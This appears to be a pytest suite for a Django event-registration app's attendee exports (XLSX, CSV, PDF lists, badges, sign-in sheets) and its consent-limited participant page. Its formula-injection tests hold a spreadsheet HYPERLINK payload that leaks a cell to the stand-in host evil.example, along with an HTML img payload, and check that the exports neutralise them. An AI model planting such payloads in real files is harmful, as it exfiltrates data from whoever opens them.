"""Organiser exports: attendee lists as XLSX and CSV, PDFs to print, the participant page.

Every export is parsed back (openpyxl, csv, pypdf) and its content checked exactly: consent
decides who appears on lists others see, filters apply to every format, formulas never run.
"""

import csv
import io
from datetime import date, datetime

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from registrations.exports import csv as csv_export
from registrations.exports import pdf as pdf_export
from registrations.exports import rows as export_rows
from registrations.exports import xlsx as xlsx_export
from registrations.models import Attendance, ProgrammeChoice, Registration
from tests.factories import (
    ContactPersonFactory,
    EventFactory,
    MemberOrganisationFactory,
    ProgrammeChoiceFactory,
    ProgrammeItemFactory,
    RegistrationFactory,
)

pytestmark = pytest.mark.django_db

DAY_1, DAY_2 = date(2031, 5, 6), date(2031, 5, 7)
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'
LAST_NAMES = ["Apfel", "Birne", "Citrone", "Dattel", "Eibe"]


@pytest.fixture
def meeting():
    """Five registrations covering every status, visibility and side programme state."""
    event = EventFactory(title="Jahrestreffen 2031", slug="jt-2031", days=[DAY_1, DAY_2])
    tour = ProgrammeItemFactory(event=event, title="Stadtrundgang", position=1)
    dinner = ProgrammeItemFactory(event=event, title="Abendessen", position=2)
    leipzig = MemberOrganisationFactory(name="Stadt Leipzig", kind="city", federal_state="SN")
    harz = MemberOrganisationFactory(name="Landkreis Harz", kind="district", federal_state="ST")

    def register(first, last, org, **kwargs):
        person = ContactPersonFactory(
            organisation=org, first_name=first, last_name=last, email=f"{last.lower()}@ex.org"
        )
        return RegistrationFactory(event=event, registered_by=person, **kwargs)

    people = {
        "Apfel": register(
            "Anna",
            "Apfel",
            leipzig,
            academic_title="Dr.",
            function="Leitung Stadtplanungsamt",
            visibility="public",
            diet="vegetarian",
            accessibility_needs="Rollstuhlplatz",
        ),
        "Birne": register(
            "Bernd", "Birne", harz, function="Kreisbaurat", visibility="participants"
        ),
        "Citrone": register(
            "Clara",
            "Citrone",
            leipzig,
            function="Referentin",
            visibility="nobody",
            diet="vegan",
            diet_notes="keine Nüsse",
        ),
        "Dattel": register(
            "Dora", "Dattel", harz, function="Amtsleiterin", visibility="public", status="waiting"
        ),
        "Eibe": register(
            "Emil", "Eibe", leipzig, function="Dezernent", visibility="public", status="cancelled"
        ),
    }
    ProgrammeChoiceFactory(registration=people["Apfel"], item=tour)
    ProgrammeChoiceFactory(registration=people["Birne"], item=dinner)
    ProgrammeChoiceFactory(registration=people["Dattel"], item=tour, status="waiting")
    ProgrammeChoiceFactory(registration=people["Eibe"], item=tour, status="cancelled")
    Attendance.objects.create(registration=people["Apfel"], day=DAY_1)
    return {"event": event, "tour": tour, "dinner": dinner, **people}


def _all(event):
    return Registration.objects.filter(event=event)


def _workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def _values(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def _csv(content: bytes, delimiter: str) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def _pdf_pages(content: bytes) -> list[str]:
    assert content.startswith(b"%PDF-")
    return [page.extract_text() for page in PdfReader(io.BytesIO(content)).pages]


def _pdf_text(content: bytes) -> str:
    return "\n".join(_pdf_pages(content))


def _content(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _text(fmt: str, content: bytes) -> str:
    """An export of any format as plain text (XLSX: its first sheet)."""
    if fmt == "xlsx":
        sheet = _workbook(content).worksheets[0]
        return "\n".join(str(v) for row in _values(sheet) for v in row if v is not None)
    if fmt == "csv":
        return content.decode("utf-8-sig")
    return _pdf_text(content)


def _names_in(fmt: str, content: bytes) -> set[str]:
    """Which of the fixture's last names an export of any format contains."""
    text = _text(fmt, content)
    return {name for name in LAST_NAMES if name in text}


# --- XLSX --------------------------------------------------------------------------------------


def test_xlsx_has_a_sheet_per_purpose_each_frozen_filtered_and_formatted(meeting):
    event = meeting["event"]
    book = _workbook(xlsx_export.xlsx_bytes(event, _all(event)))

    assert book.sheetnames == [
        "Anmeldungen",
        "Stadtrundgang",
        "Abendessen",
        "Rahmenprogramm",
        "Organisationen",
        "Verpflegung",
    ]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref.startswith("A1:")
        assert sheet["A1"].font.bold
    main = book["Anmeldungen"]
    cols = export_rows.columns([DAY_1, DAY_2])
    assert [c.value for c in main[1]] == [c.label for c in cols]
    assert main.auto_filter.ref == f"A1:{main.cell(1, len(cols)).column_letter}6"
    assert main.column_dimensions["H"].width == 32  # organisation
    assert main["E1"].value == "Vorname" and main["F1"].value == "Nachname"


def test_xlsx_rows_are_exact_and_dates_are_real_dates(meeting):
    event = meeting["event"]
    book = _workbook(xlsx_export.xlsx_bytes(event, _all(event)))
    main = book["Anmeldungen"]
    header = [c.value for c in main[1]]
    rows = [dict(zip(header, row, strict=True)) for row in _values(main)[1:]]

    assert [r["Nachname"] for r in rows] == LAST_NAMES
    anna = rows[0]
    assert anna["Vorname"] == "Anna"
    assert anna["Organisation"] == "Stadt Leipzig"
    assert anna["Funktion"] == "Leitung Stadtplanungsamt"
    assert anna["Status"] == "bestätigt"
    assert anna["Anwesend 06.05."] == "ja" and anna["Anwesend 07.05."] is None
    registered = main.cell(2, header.index(export_rows.columns([])[-1].label) + 1)
    assert isinstance(registered.value, datetime)
    assert registered.is_date and registered.number_format == xlsx_export.DATE_FORMAT

    # The item sheet lists who has a place or waits for it; a cancelled choice is gone.
    # Each with their place in the item: a caterer or bus company counts the confirmed ones.
    tour = [(row[6], row[1]) for row in _values(book["Stadtrundgang"])[1:]]
    assert tour == [("Apfel", "bestätigt"), ("Dattel", "Warteliste")]
    summary = _values(book["Rahmenprogramm"])
    assert summary[0][:3] == ["Rahmenprogrammpunkt", "Plätze vergeben", "Warteliste"]
    assert summary[1:] == [["Stadtrundgang", 1, 1, 0, 1, 0, 0], ["Abendessen", 1, 0, 1, 0, 0, 0]]
    assert [row[6] for row in _values(book["Abendessen"])[1:]] == ["Birne"]

    organisations = _values(book["Organisationen"])[1:]
    assert organisations == [
        ["Landkreis Harz", "Landkreis", "Sachsen-Anhalt", 1, 1, 0],
        ["Stadt Leipzig", "Stadt oder Gemeinde", "Sachsen", 2, 0, 1],
    ]
    catering = _values(book["Verpflegung"])
    assert catering[0][1:] == ["06.05.2031", "07.05.2031"]
    counts = {row[0]: row[1:] for row in catering[1:]}
    assert counts["vegetarisch"] == [1, 1]
    assert counts["vegan"] == [1, 1]
    assert list(counts.values())[-1] == [3, 3]  # the total: confirmed people only


# --- CSV ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("delimiter", [";", ","])
def test_csv_has_bom_the_chosen_delimiter_and_exact_rows(meeting, delimiter):
    event = meeting["event"]
    lines = csv_export.csv_lines(_all(event), [DAY_1, DAY_2], delimiter=delimiter)
    content = "".join(lines).encode()
    rows = _csv(content, delimiter)

    assert rows[0] == [c.label for c in export_rows.columns([DAY_1, DAY_2])]
    assert [r[5] for r in rows[1:]] == LAST_NAMES
    header = rows[0]
    anna = dict(zip(header, rows[1], strict=True))
    assert anna["Organisation"] == "Stadt Leipzig"
    assert anna["Nachname"] == "Apfel" and anna["Vorname"] == "Anna"
    assert anna["E-Mail"] == "apfel@ex.org"
    assert content.count(b"\r\n") == 6


# --- Formula injection -------------------------------------------------------------------------


@pytest.fixture
def injected(meeting):
    person = ContactPersonFactory(first_name="Zora", last_name="Zeder", email="zeder@ex.org")
    registration = RegistrationFactory(
        event=meeting["event"],
        registered_by=person,
        first_name=EVIL,
        function="+49 30 1234",
        diet="other",
        diet_notes="@SUM(1+1)",
        accessibility_needs="-2+3",
        visibility="public",
    )
    return meeting["event"], registration


def test_csv_neutralises_formulas_from_registrants(injected):
    event, _registration = injected
    content = "".join(csv_export.csv_lines(_all(event), [DAY_1, DAY_2])).encode()
    rows = _csv(content, ";")
    header = rows[0]
    zora = next(dict(zip(header, r, strict=True)) for r in rows[1:] if r[5] == "Zeder")
    assert zora["Vorname"] == "'" + EVIL
    assert zora["Funktion"] == "'+49 30 1234"
    assert zora["Ernährung, Einzelheiten"] == "'@SUM(1+1)"
    label = {c.key: c.label for c in export_rows.columns([DAY_1, DAY_2])}
    assert zora[label["accessibility_needs"]] == "'-2+3"
    assert not any(value.startswith(("=", "+", "-", "@")) for r in rows for value in r)


def test_xlsx_stores_formula_text_as_text_never_as_formula(injected):
    event, _registration = injected
    book = _workbook(xlsx_export.xlsx_bytes(event, _all(event)))
    sheet = book.worksheets[0]
    zora = next(row for row in sheet.iter_rows(min_row=2) if row[5].value == "Zeder")
    cells = {cell.value: cell for cell in zora}
    for text in (EVIL, "+49 30 1234", "@SUM(1+1)", "-2+3"):
        # The same neutralised text as in the CSV, stored as a text cell.
        assert cells["'" + text].data_type == "s"
    assert not any(c.data_type == "f" for s in book.worksheets for r in s.iter_rows() for c in r)


def test_pdfs_show_markup_from_registrants_as_text(meeting):
    event = meeting["event"]
    RegistrationFactory(
        event=event,
        first_name='<img src="http://evil.example/x.png">',
        last_name="Zeder",
        email="zeder@ex.org",
        visibility="public",
    )
    text = _pdf_text(pdf_export.pdf_participant_list(event, _all(event).filter(last_name="Zeder")))
    assert '<img src="http://' in text and 'evil.example/x.png">' in text


# --- PDF ---------------------------------------------------------------------------------------


def test_printed_participant_list_shows_only_people_who_chose_public(meeting):
    event = meeting["event"]
    confirmed = _all(event).filter(status="confirmed")
    text = _pdf_text(pdf_export.pdf_participant_list(event, confirmed))

    assert "Teilnehmendenliste" in text and "Jahrestreffen 2031" in text
    assert "Dr. Anna Apfel" in text
    assert "Leitung Stadtplanungsamt" in text and "Stadt Leipzig" in text
    assert "Birne" not in text  # participants only: the page, not the printout
    assert "Citrone" not in text  # nobody
    assert "@" not in text  # no e-mail addresses
    assert "Rollstuhl" not in text and "vegetarisch" not in text


def test_sign_in_sheet_has_one_page_per_day_with_everyone_and_a_signature_column(meeting):
    event = meeting["event"]
    confirmed = _all(event).filter(status="confirmed")
    pages = _pdf_pages(pdf_export.pdf_sign_in_sheet(event, confirmed))

    assert len(pages) == 2
    assert "6. Mai 2031" in pages[0] and "7. Mai 2031" in pages[1]
    for page in pages:
        assert "Unterschrift" in page
        for name in ("Dr. Anna Apfel", "Bernd Birne", "Clara Citrone"):
            assert name in page
        assert "Dattel" not in page and "Eibe" not in page
        assert "Landkreis Harz" in page and "@" not in page


def test_badges_come_eight_to_an_a4_page_with_name_function_organisation_event(meeting):
    event = meeting["event"]
    for n in range(6):
        person = ContactPersonFactory(last_name=f"Zusatz{n}", email=f"z{n}@ex.org")
        RegistrationFactory(event=event, registered_by=person)
    confirmed = _all(event).filter(status="confirmed")  # 3 + 6 = 9 badges
    content = pdf_export.pdf_badges(event, confirmed)
    reader = PdfReader(io.BytesIO(content))

    assert len(reader.pages) == 2
    width, height = reader.pages[0].mediabox.width, reader.pages[0].mediabox.height
    assert (round(width / 72 * 25.4), round(height / 72 * 25.4)) == (210, 297)
    first, second = (page.extract_text() for page in reader.pages)
    assert "Dr. Anna Apfel" in first and "Leitung Stadtplanungsamt" in first
    assert "Stadt Leipzig" in first and "Jahrestreffen 2031" in first
    assert first.count("Jahrestreffen 2031") == 8 and second.count("Jahrestreffen 2031") == 1


# --- Filters on every format -------------------------------------------------------------------

FORMATS = ["xlsx", "csv", "pdf-list", "pdf-signin", "pdf-badges"]


def _export(client, event, **params):
    return client.get(reverse("admin:events_event_export", args=[event.pk]), params)


@pytest.mark.parametrize(
    "fmt, params, expected",
    [
        ("xlsx", {}, set(LAST_NAMES)),
        ("xlsx", {"status": "waiting"}, {"Dattel"}),
        ("xlsx", {"status": ["confirmed", "cancelled"]}, {"Apfel", "Birne", "Citrone", "Eibe"}),
        ("xlsx", {"item": "tour"}, {"Apfel", "Dattel"}),
        ("csv", {}, set(LAST_NAMES)),
        ("csv", {"status": "cancelled"}, {"Eibe"}),
        ("csv", {"item": "dinner"}, {"Birne"}),
        ("csv", {"item": "tour", "status": "confirmed"}, {"Apfel"}),
        # PDFs list the confirmed unless told otherwise; the printed list only "public".
        ("pdf-list", {}, {"Apfel"}),
        ("pdf-list", {"status": "waiting"}, {"Dattel"}),
        ("pdf-list", {"item": "dinner"}, set()),
        ("pdf-signin", {}, {"Apfel", "Birne", "Citrone"}),
        ("pdf-signin", {"item": "dinner"}, {"Birne"}),
        ("pdf-signin", {"status": "waiting"}, {"Dattel"}),
        ("pdf-badges", {}, {"Apfel", "Birne", "Citrone"}),
        ("pdf-badges", {"item": "tour", "status": ["confirmed", "waiting"]}, {"Apfel", "Dattel"}),
        ("pdf-badges", {"status": "cancelled"}, {"Eibe"}),
    ],
)
def test_export_view_filters_every_format_by_status_and_item(
    staff_client, meeting, fmt, params, expected
):
    if "item" in params:
        params = {**params, "item": meeting[params["item"]].pk}
    response = _export(staff_client, meeting["event"], format=fmt, **params)

    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Disposition"].startswith('attachment; filename="jt-2031-')
    assert _names_in(fmt, _content(response)) == expected


def test_export_view_streams_csv_with_either_delimiter(staff_client, meeting):
    semicolon = _export(staff_client, meeting["event"], format="csv", delimiter=";")
    comma = _export(staff_client, meeting["event"], format="csv", delimiter=",")
    assert semicolon.streaming and comma.streaming
    assert semicolon["Content-Type"] == "text/csv; charset=utf-8"
    rows_semicolon = _csv(_content(semicolon), ";")
    rows_comma = _csv(_content(comma), ",")
    assert rows_semicolon == rows_comma
    assert len(rows_semicolon[0]) == len(export_rows.columns([DAY_1, DAY_2]))


def test_export_view_refuses_unknown_input_with_the_form(staff_client, meeting):
    event = meeting["event"]
    other_item = ProgrammeItemFactory()
    assert _export(staff_client, event, format="exe").status_code == 400
    assert _export(staff_client, event, format="csv", delimiter="|").status_code == 400
    assert _export(staff_client, event, format="csv", item=other_item.pk).status_code == 400
    form_page = _export(staff_client, event)
    assert form_page.status_code == 200
    assert b'name="format"' in form_page.content


# --- Query counts ------------------------------------------------------------------------------


def _crowd(event, item, n):
    for i in range(n):
        person = ContactPersonFactory(last_name=f"Person{i:03d}", email=f"p{i}@{event.slug}.org")
        registration = RegistrationFactory(event=event, registered_by=person, visibility="public")
        ProgrammeChoice.objects.create(registration=registration, item=item)
        Attendance.objects.create(registration=registration, day=DAY_1)


# Session and user included; XLSX reads each item sheet, the summaries and the catering apart.
QUERY_BUDGET = {"xlsx": 13, "csv": 7, "pdf-list": 5, "pdf-signin": 5, "pdf-badges": 5}


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_query_count_does_not_grow_with_the_number_of_registrations(
    staff_client, django_assert_max_num_queries, fmt
):
    small = EventFactory(days=[DAY_1, DAY_2])
    large = EventFactory(days=[DAY_1, DAY_2])
    _crowd(small, ProgrammeItemFactory(event=small), 5)
    _crowd(large, ProgrammeItemFactory(event=large), 50)

    with CaptureQueriesContext(connection) as queries:
        response = _export(staff_client, small, format=fmt)
        _content(response)
    baseline = len(queries)

    with django_assert_max_num_queries(baseline) as captured:
        response = _export(staff_client, large, format=fmt)
        content = _content(response)
    assert len(captured) == baseline
    assert "Person049" in _text(fmt, content)
    assert baseline <= QUERY_BUDGET[fmt]


# --- Admin access ------------------------------------------------------------------------------


def test_export_view_needs_staff_with_the_export_permission(client, django_user_model, meeting):
    event = meeting["event"]
    url = reverse("admin:events_event_export", args=[event.pk])

    anonymous = client.get(url, {"format": "csv"})
    assert anonymous.status_code == 302 and reverse("admin:login") in anonymous["Location"]

    user = django_user_model.objects.create_user("helga", password="pw-helga-123", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_event"))
    client.force_login(user)
    assert client.get(url, {"format": "csv"}).status_code == 403

    # Seeing registrations is not enough: a list leaves the system with personal data.
    user.user_permissions.add(Permission.objects.get(codename="view_registration"))
    assert client.get(url, {"format": "csv"}).status_code == 403

    user.user_permissions.add(Permission.objects.get(codename="export_registrations"))
    allowed = client.get(url, {"format": "csv"})
    assert allowed.status_code == 200
    assert "Apfel" in _content(allowed).decode("utf-8-sig")


def test_event_change_page_links_to_the_exports(staff_client, meeting):
    event = meeting["event"]
    page = staff_client.get(reverse("admin:events_event_change", args=[event.pk]))
    export_url = reverse("admin:events_event_export", args=[event.pk])
    for query in (
        "format=xlsx",
        "format=csv&amp;delimiter=%3B",
        "format=csv&amp;delimiter=%2C",
        "format=pdf-list",
        "format=pdf-signin",
        "format=pdf-badges",
    ):
        assert f'href="{export_url}?{query}"' in page.content.decode()


# --- Exports from the registration list -------------------------------------------------------


def _action(client, action, registrations=(), **extra):
    url = reverse("admin:registrations_registration_changelist")
    data = {"action": action, "_selected_action": [r.pk for r in registrations], **extra}
    return client.post(url + extra.pop("query", ""), data)


def test_changelist_action_exports_the_selection(staff_client, meeting):
    response = _action(staff_client, "export_xlsx", [meeting["Birne"], meeting["Dattel"]])
    assert response.status_code == 200
    assert _names_in("xlsx", response.content) == {"Birne", "Dattel"}

    content = _content(_action(staff_client, "export_csv", [meeting["Apfel"]]))
    assert _names_in("csv", content) == {"Apfel"}
    assert _csv(content, ";")[0][0] == "Nr."

    response = _action(staff_client, "export_csv_comma", [meeting["Apfel"]])
    assert _csv(_content(response), ",")[1][5] == "Apfel"

    response = _action(staff_client, "export_pdf", [meeting["Apfel"], meeting["Birne"]])
    assert _names_in("pdf-list", response.content) == {"Apfel"}  # consent still decides

    response = _action(staff_client, "export_pdf_badges", [meeting["Birne"], meeting["Dattel"]])
    assert _names_in("pdf-badges", response.content) == {"Birne", "Dattel"}


def test_changelist_action_with_select_all_exports_the_whole_filtered_list(staff_client, meeting):
    event = meeting["event"]
    url = reverse("admin:registrations_registration_changelist")
    query = f"?event__id__exact={event.pk}&status__exact=confirmed"
    response = staff_client.post(
        url + query,
        {
            "action": "export_pdf_sign_in",
            "select_across": "1",
            "_selected_action": [meeting["Apfel"].pk],
        },
    )
    assert response.status_code == 200
    assert _names_in("pdf-signin", response.content) == {"Apfel", "Birne", "Citrone"}


def test_changelist_export_across_events_is_refused_with_a_message(staff_client, meeting):
    elsewhere = RegistrationFactory(last_name="Fremd")
    response = staff_client.post(
        reverse("admin:registrations_registration_changelist"),
        {"action": "export_xlsx", "_selected_action": [meeting["Apfel"].pk, elsewhere.pk]},
        follow=True,
    )
    assert response.status_code == 200
    assert "Content-Disposition" not in response
    assert "einer Veranstaltung" in response.content.decode()


# --- The participant page ----------------------------------------------------------------------


def _page(client, event):
    return client.get(reverse("registrations:participant_list", kwargs={"slug": event.slug}))


def test_participant_page_shows_confirmed_participants_who_chose_to_be_seen(
    client, sign_in, meeting
):
    response = _page(sign_in(client, meeting["Citrone"].registered_by), meeting["event"])
    html = response.content.decode()

    assert response.status_code == 200
    assert "Dr. Anna Apfel" in html and "Bernd Birne" in html  # public and participants
    assert "Kreisbaurat" in html and "Landkreis Harz" in html
    assert "Clara Citrone" not in html  # nobody: not even shown to herself here
    assert "Dattel" not in html and "Eibe" not in html  # not confirmed
    for secret in ("@ex.org", "Rollstuhl", "Nüsse", "vegan", "vegetarisch"):
        assert secret not in html
    assert "<caption>" in html and 'scope="col"' in html


def test_participant_page_is_open_to_whoever_registered_a_confirmed_participant(
    client, sign_in, meeting
):
    colleague = ContactPersonFactory(organisation=meeting["Apfel"].organisation)
    RegistrationFactory(
        event=meeting["event"],
        registered_by=colleague,
        first_name="Vera",
        last_name="Vertretung",
        email="vertretung@ex.org",
        is_representative=True,
    )
    assert _page(sign_in(client, colleague), meeting["event"]).status_code == 200


def test_participant_page_sends_anonymous_visitors_to_sign_in(client, meeting):
    response = _page(client, meeting["event"])
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("registrations:sign_in"))
    assert "Apfel" not in response.content.decode()


@pytest.mark.parametrize("who", ["not_registered", "waiting", "cancelled"])
def test_participant_page_refuses_contact_persons_not_confirmed_for_the_event(
    client, sign_in, meeting, who
):
    person = {
        "not_registered": ContactPersonFactory(),
        "waiting": meeting["Dattel"].registered_by,
        "cancelled": meeting["Eibe"].registered_by,
    }[who]
    response = _page(sign_in(client, person), meeting["event"])
    html = response.content.decode()
    assert response.status_code == 403
    assert "nur für Personen mit bestätigter Anmeldung" in html
    assert "Apfel" not in html and "Birne" not in html


def test_event_page_links_to_the_participant_page_only_for_participants(client, sign_in, meeting):
    event = meeting["event"]
    link = reverse("registrations:participant_list", kwargs={"slug": event.slug})
    assert link not in client.get(event.get_absolute_url()).content.decode()
    sign_in(client, meeting["Dattel"].registered_by)
    assert link not in client.get(event.get_absolute_url()).content.decode()
    sign_in(client, meeting["Birne"].registered_by)
    assert link in client.get(event.get_absolute_url()).content.decode()
